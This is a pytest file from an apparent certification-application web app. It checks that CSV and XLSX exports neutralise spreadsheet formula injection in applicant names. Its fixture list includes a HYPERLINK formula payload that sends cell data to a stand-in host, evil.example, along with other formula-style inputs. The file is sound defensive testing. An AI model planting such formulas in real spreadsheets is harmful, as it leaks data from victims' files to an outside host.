"""Register exports with hostile names: formulas stay text in CSV and XLSX (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from certcenter.core.spreadsheets import neutralise
from certcenter.core.storage import get_storage
from certcenter.extensions import db
from certcenter.reports.models import Report

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+7(701)",
    "-2+3",
    "@SUM(A1:A9)",
]


@pytest.fixture
def hostile_applicants(app, make_candidate, catalogue):
    """Candidates whose names are formulas, each with a draft application (saved as typed: they are visible text)."""
    for name in FORMULAS:
        client = make_candidate(full_name=name)
        response = client.post(f"/qualifications/{catalogue['WELD-3']}/apply", data={"form_token": name})
        assert response.status_code == 302


def export(app, admin, fmt: str) -> bytes:
    assert admin.post("/admin/reports/export", data={"dataset": "applications", "format": fmt}).status_code == 302
    with app.app_context():
        report = db.session.scalars(select(Report).order_by(Report.id.desc())).first()
        assert report.status == "ready", report.error
        with get_storage().open(report.storage_key) as handle:
            return handle.read()


def test_formula_names_are_neutralised_in_csv(app, hostile_applicants, login_as):
    table = list(csv.reader(io.StringIO(export(app, login_as("admin"), "csv").decode("utf-8-sig"))))
    names = [row[1] for row in table[1:]]
    assert sorted(names) == sorted("'" + name for name in FORMULAS)
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table[1:] for name in row)


def test_formula_names_are_plain_strings_in_xlsx(app, hostile_applicants, login_as):
    sheet = load_workbook(io.BytesIO(export(app, login_as("admin"), "xlsx"))).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in cells) == sorted("'" + name for name in FORMULAS)
    assert {cell.data_type for cell in cells} == {"s"}  # text, never "f" (formula)
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("\tcmd", "'\tcmd"),
        ("\rx", "'\rx"),
        ("Айгерім", "Айгерім"),
        ("a=b", "a=b"),
        (3, 3),
        (None, None),
    ],
)
def test_what_is_neutralised(value, expected):
    """Tab and carriage return cannot come from a name (names are normalised); other columns may carry them."""
    assert neutralise(value) == expected


def test_an_error_code_is_written_as_text(app):
    from certcenter.core.spreadsheets import to_xlsx

    sheet = load_workbook(io.BytesIO(to_xlsx(["name"], iter([["#N/A"], ["#REF!"]])))).active
    assert [(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2)] == [("#N/A", "s"), ("#REF!", "s")]
